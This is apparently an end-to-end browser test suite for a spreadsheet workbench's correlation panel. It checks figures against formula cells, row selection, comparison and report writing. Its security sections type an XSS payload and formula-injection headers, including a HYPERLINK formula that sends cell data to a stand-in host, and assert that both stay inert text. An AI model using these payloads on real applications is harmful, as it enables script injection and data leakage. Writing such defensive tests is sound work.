/**
 * The real panel in the workbench, against the grid's live formulas: the figures the panel shows for a pair are
 * the ones dist/functions.js gives for the same cells (two independent routes through the same core: the panel's
 * own computation and the cell functions hosted in the formula worker), both follow an edit, a flagged point
 * leads back to its row, the comparison shows a difference with its interval, the write buttons produce formulas
 * the grid evaluates, and a header holding markup stays text. Every request stays on localhost.
 */
import {
  BrowserSession, RunningWorkbench, afterPanelRedraw, cell, cellValue, foreignRequests, openBrowser, panelIdle, screenshot,
  settle, showSheet, startWorkbench, typeInto,
} from './harness';
import type { Page } from 'playwright-core';

jest.setTimeout(120000);

let server: RunningWorkbench;
let browser: BrowserSession;
const timings: Record<string, number> = {};
const page = () => browser.page;

/** Relative closeness: |a - b| <= tol * max(|a|, |b|). */
function expectRelClose(a: number, b: number, tol: number): void {
  expect(Number.isFinite(a) && Number.isFinite(b)).toBe(true);
  expect(Math.abs(a - b)).toBeLessThanOrEqual(tol * Math.max(Math.abs(a), Math.abs(b), Number.MIN_VALUE));
}

function summary(p: Page) {
  return p.evaluate(() => window.__covaryPanel!.summary());
}

function testid(p: Page, id: string) {
  return p.locator(`[data-testid="${id}"]`);
}

async function pickTableColumns(p: Page, x: string, y: string): Promise<void> {
  await afterPanelRedraw(p, async () => {
    // Clicking "Table columns" re-reads the tables, so renamed headers are offered.
    await testid(p, 'main-mode-table').click();
    await p.waitForFunction(
      ({ x, y }) => {
        const texts = [...document.querySelectorAll('[data-testid="main-x-column"] option')].map((o) => o.textContent);
        return texts.includes(x) && texts.includes(y);
      },
      { x, y },
      { timeout: 10000 },
    );
    await testid(p, 'main-x-column').selectOption({ label: x });
    await testid(p, 'main-y-column').selectOption({ label: y });
  });
}

beforeAll(async () => {
  let t = Date.now();
  server = await startWorkbench();
  timings.serverStartMs = Date.now() - t;
  browser = await openBrowser(server.origin);
  t = Date.now();
  await browser.page.goto(server.url);
  await settle(browser.page);
  await browser.page.waitForFunction(() => window.__covaryPanel?.summary() != null, undefined, { timeout: 30000 });
  await panelIdle(browser.page);
  timings.firstPanelResultMs = Date.now() - t;
}, 300000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  if (Object.keys(timings).length) process.stdout.write(`workbench-panel timings: ${JSON.stringify(timings)}\n`);
});

describe('the panel on the demo pair', () => {
  test('shows r for the demo pair, equal to the COEF formula cell over the same cells', async () => {
    const s = await summary(page());
    expect(s).not.toBeNull();
    expect(s!.sheet).toBe('North');
    expect(s!.n).toBe(48);
    const formulaR = (await cellValue(page(), 'North!N2')) as number;
    // Same cells, two routes: the panel's computation and COVARY.COEF in the formula worker.
    expectRelClose(s!.r, formulaR, 1e-9);
    expectRelClose(s!.lower, (await cellValue(page(), 'North!N3')) as number, 1e-9);
    expectRelClose(s!.upper, (await cellValue(page(), 'North!O3')) as number, 1e-9);
    expectRelClose(s!.p, (await cellValue(page(), 'North!N4')) as number, 1e-6);
    const shown = (await testid(page(), 'r-value').textContent())!.trim();
    expect(Number(shown.replace('−', '-'))).toBeCloseTo(formulaR, 2);
    await expect(testid(page(), 'pairs').textContent()).resolves.toMatch(/48/);
    await expect(testid(page(), 'interval').textContent()).resolves.toMatch(/\d/);
    await expect(testid(page(), 'p-value').textContent()).resolves.toMatch(/\d/);
    await screenshot(page(), 'workbench-panel-demo-pair');
  });

  test('editing a data cell changes both the formula and the panel', async () => {
    const before = (await summary(page()))!.r;
    const shownBefore = await testid(page(), 'r-value').textContent();
    const oldRepairs = String(await cellValue(page(), 'North!C5'));
    const t = Date.now();
    await afterPanelRedraw(page(), () => typeInto(page(), 'North', 'C5', '400'));
    timings.editToPanelMs = Date.now() - t;
    const formulaR = (await cellValue(page(), 'North!N2')) as number;
    const s = await summary(page());
    expect(Math.abs(s!.r - before)).toBeGreaterThan(0.05);
    expectRelClose(s!.r, formulaR, 1e-9);
    expect(await testid(page(), 'r-value').textContent()).not.toBe(shownBefore);
    await screenshot(page(), 'workbench-panel-after-edit');
    await afterPanelRedraw(page(), () => typeInto(page(), 'North', 'C5', oldRepairs));
    expectRelClose((await summary(page()))!.r, before, 1e-12);
  });
});

describe('flagged points', () => {
  test('the slip in the rent column is flagged, highlighted in the plots, and clicking it selects its row', async () => {
    await pickTableColumns(page(), 'Floor area m²', 'Rent per month');
    const flagged = await page().evaluate(() => window.__covaryPanel!.flaggedRows());
    expect(flagged).toContain(28); // North row 28 holds the rent keyed at about three times its value
    const s = await summary(page());
    expectRelClose(s!.r, (await cellValue(page(), "'Live formulas'!B5")) as number, 1e-9);
    await expect(testid(page(), 'chart-scatter-frame').getAttribute('data-flagged-rows')).resolves.toMatch(/\b28\b/);

    await testid(page(), 'chart-scatter').scrollIntoViewIfNeeded();
    for (const chart of ['scatter', 'residuals', 'qq', 'order'] as const) {
      const drawn = await page().evaluate((c) => window.__covaryPanel!.pointOnScreen(c, 28), chart);
      expect(drawn).not.toBeNull();
    }
    await screenshot(page(), 'workbench-panel-flagged-point');

    const point = await page().evaluate(() => window.__covaryPanel!.pointOnScreen('scatter', 28));
    await page().mouse.click(point!.x, point!.y);
    await page().waitForFunction(() => window.covaryWorkbench!.selection() === 'North!A28:O28', undefined, { timeout: 10000 });
    await expect(page().locator('th.wb-rowhead[data-row="28"]').getAttribute('class')).resolves.toMatch(/sel-head/);
    await expect(cell(page(), 'G28').getAttribute('class')).resolves.toMatch(/\bsel\b/);
    await screenshot(page(), 'workbench-panel-click-selects-row');
  });
});

describe('compare', () => {
  test('North against South shows the difference of the two formula r values, with its interval and p', async () => {
    await pickTableColumns(page(), 'Mechanics (FTE)', 'Repairs per week');
    const c = await page().evaluate(() => window.__covaryPanel!.comparison());
    expect(c).not.toBeNull();
    expect(c!.design).toBe('independent');
    const north = (await cellValue(page(), 'North!N2')) as number;
    const south = (await cellValue(page(), "'Live formulas'!B3")) as number;
    expectRelClose(c!.difference, north - south, 1e-9);
    expect(c!.lower).toBeLessThan(c!.difference);
    expect(c!.upper).toBeGreaterThan(c!.difference);
    await expect(testid(page(), 'compare-difference').textContent()).resolves.toMatch(/\d/);
    await expect(testid(page(), 'compare-interval').textContent()).resolves.toMatch(/\d.*\d/);
    await expect(testid(page(), 'compare-p').textContent()).resolves.toMatch(/\d/);
    await testid(page(), 'compare-difference').scrollIntoViewIfNeeded();
    await screenshot(page(), 'workbench-panel-compare');
  });
});

describe('picking and writing', () => {
  test('a pair picked from the grid selection gives the same r as the formula over those cells', async () => {
    await showSheet(page(), 'North');
    await cell(page(), 'F1').click();
    await cell(page(), 'G49').click({ modifiers: ['Shift'] });
    await afterPanelRedraw(page(), async () => {
      await testid(page(), 'main-mode-selection').click();
      await testid(page(), 'main-use-selection').click();
    });
    const s = await summary(page());
    expect(s!.n).toBe(48);
    expectRelClose(s!.r, (await cellValue(page(), "'Live formulas'!B5")) as number, 1e-9);
  });

  test('"Put formulas in sheet" writes COVARY formulas that the grid evaluates to the panel figures', async () => {
    const s = await summary(page());
    await testid(page(), 'btn-formulas').click();
    await page().waitForFunction(
      () => {
        for (let c = 16; c <= 40; c++) {
          const col = c <= 26 ? String.fromCharCode(64 + c) : 'A' + String.fromCharCode(64 + c - 26);
          if (window.covaryWorkbench!.entry(`North!${col}2`).startsWith('=COVARY.COEF(')) return true;
        }
        return false;
      },
      undefined,
      { timeout: 15000 },
    );
    await settle(page());
    const written = await page().evaluate(() => {
      const out: Record<string, unknown> = {};
      for (let c = 16; c <= 40; c++) {
        const col = c <= 26 ? String.fromCharCode(64 + c) : 'A' + String.fromCharCode(64 + c - 26);
        for (let r = 1; r <= 8; r++) {
          const e = window.covaryWorkbench!.entry(`North!${col}${r}`);
          if (e.startsWith('=')) out[e] = window.covaryWorkbench!.value(`North!${col}${r}`);
        }
      }
      return out;
    });
    const coef = Object.entries(written).find(([f]) => f.startsWith('=COVARY.COEF('));
    expect(coef).toBeDefined();
    expectRelClose(coef![1] as number, s!.r, 1e-9);
    // Every written formula evaluates (FLAGS receives its parameter addresses through the invocation object).
    expect(Object.keys(written).length).toBeGreaterThanOrEqual(5);
    const failed = Object.entries(written).filter(([, v]) => typeof v === 'object' && v !== null && 'error' in v);
    expect(failed).toEqual([]);
    await screenshot(page(), 'workbench-panel-formulas-written');
  });

  test('"Write report sheet" adds a sheet with the report', async () => {
    const tabsBefore = await page().locator('.wb-tab').count();
    await testid(page(), 'btn-report').click();
    await page().waitForFunction((n) => document.querySelectorAll('.wb-tab').length > n, tabsBefore, { timeout: 15000 });
    await settle(page());
    const active = await page().locator('.wb-tab.active').textContent();
    expect(active).toMatch(/\S/);
    await expect(cell(page(), 'A1').textContent()).resolves.toMatch(/\S/);
    // The reading names the columns, not "x" and "y".
    const reading = await page().evaluate((sheet) => {
      for (let r = 1; r <= 60; r++) {
        if (window.covaryWorkbench!.value(`'${sheet}'!A${r}`) === 'Reading') return window.covaryWorkbench!.value(`'${sheet}'!B${r}`);
      }
      return null;
    }, active!);
    const label = (await testid(page(), 'main-pair-label').textContent())!;
    const [, xName, yName] = /X: (.+?) \(.*Y: (.+?) \(/.exec(label)!;
    expect(String(reading)).toContain(`${yName} tends to rise as ${xName} rises`);
    expect(String(reading)).not.toMatch(/\by tends to|as x rises/);
    // The comparison on screen is on the report as a live formula, and gives the panel's difference.
    const shown = await page().evaluate(() => window.__covaryPanel!.comparison());
    expect(shown).not.toBeNull(); // pair B was picked in the compare test above
    if (shown) {
      const diff = await page().evaluate((sheet) => {
        for (let r = 30; r <= 60; r++) {
          const e = window.covaryWorkbench!.entry(`'${sheet}'!A${r}`);
          if (e.startsWith('=COVARY.DIFF_')) return { formula: e, value: window.covaryWorkbench!.value(`'${sheet}'!A${r}`) };
        }
        return null;
      }, active!);
      expect(diff).not.toBeNull();
      expectRelClose(diff!.value as number, shown.difference, 1e-9);
    }
    await screenshot(page(), 'workbench-panel-report-sheet');
  });
});

describe('markup in a header stays text in the panel', () => {
  const payload = '<img src=x onerror=alert(1)>';

  test('a header holding an img tag is offered and shown as text, and runs nothing', async () => {
    await typeInto(page(), 'North', 'K1', payload);
    await pickTableColumns(page(), 'Households nearby (k)', payload);
    await expect(testid(page(), 'main-pair-label').textContent()).resolves.toContain(payload);
    const optionTexts = await testid(page(), 'main-y-column').locator('option').allTextContents();
    expect(optionTexts).toContain(payload);
    await page().waitForTimeout(300);
    await expect(page().locator('img').count()).resolves.toBe(0);
    expect(browser.dialogs).toEqual([]);
    await screenshot(page(), 'workbench-panel-markup-as-text');
  });
});

/**
 * Formula injection: a header whose text begins with = + - or @ (typed with the apostrophe that keeps it text)
 * goes through both write buttons; the only formulas in the workbook afterwards are the COVARY calls the panel
 * composed, and the header comes back as the same text.
 */
describe('headers that look like formulas are written as text by both buttons', () => {
  const headers = ['=HYPERLINK("http://example.invalid/?"&B2,"open")', '+SUM(B2:B9)', '-1+2', '@NOW()'];

  /** Every entry on a sheet that the grid holds as a formula, with where it is. */
  async function formulasOn(p: Page, sheet: string): Promise<string[]> {
    return p.evaluate((sheet) => {
      const out: string[] = [];
      for (let c = 1; c <= 40; c++) {
        const col = c <= 26 ? String.fromCharCode(64 + c) : 'A' + String.fromCharCode(64 + c - 26);
        for (let r = 1; r <= 60; r++) {
          const e = window.covaryWorkbench!.entry(`'${sheet}'!${col}${r}`);
          if (e.startsWith('=')) out.push(e);
        }
      }
      return out;
    }, sheet);
  }

  test.each(headers)('%s', async (header) => {
    await typeInto(page(), 'North', 'K1', `'${header}`);
    await expect(page().evaluate(() => window.covaryWorkbench!.value('North!K1'))).resolves.toBe(header);
    await pickTableColumns(page(), 'Households nearby (k)', header);

    await testid(page(), 'btn-formulas').click();
    await page().waitForFunction(
      () => /Formulas written|No empty space/.test(document.querySelector('[data-testid="action-status"]')?.textContent ?? ''),
      undefined,
      { timeout: 15000 },
    );
    await settle(page());
    const tabsBefore = await page().locator('.wb-tab').count();
    await testid(page(), 'btn-report').click();
    await page().waitForFunction((n) => document.querySelectorAll('.wb-tab').length > n, tabsBefore, { timeout: 15000 });
    await settle(page());
    const report = (await page().locator('.wb-tab.active').textContent())!.trim();

    const composed = /^=COVARY\.[A-Z_]+\(/;
    const northFormulas = (await formulasOn(page(), 'North')).filter((f) => !composed.test(f));
    const reportFormulas = await formulasOn(page(), report);
    expect(reportFormulas.length).toBeGreaterThanOrEqual(3);
    expect(reportFormulas.filter((f) => !composed.test(f))).toEqual([]);
    expect(northFormulas).toEqual([]);
    const shown = await page().evaluate((sheet) => [window.covaryWorkbench!.value(`'${sheet}'!B2`), window.covaryWorkbench!.value(`'${sheet}'!B3`)], report);
    // The header is shown as the text it is, at the start of B2 or B3.
    expect(shown.filter((v) => typeof v === 'string' && v.startsWith(header)).length).toBeGreaterThanOrEqual(1);
    expect(browser.dialogs).toEqual([]);
  });
});

describe('after all of the above', () => {
  test('no request left localhost, and the page raised no errors or policy violations', async () => {
    expect(foreignRequests(browser.requests, server.origin)).toEqual([]);
    expect(browser.requests.some((u) => u.endsWith('/functions.js'))).toBe(true);
    expect(browser.pageErrors).toEqual([]);
    expect(browser.consoleErrors.filter((m) => /Content Security Policy|Refused/i.test(m))).toEqual([]);
  });
});
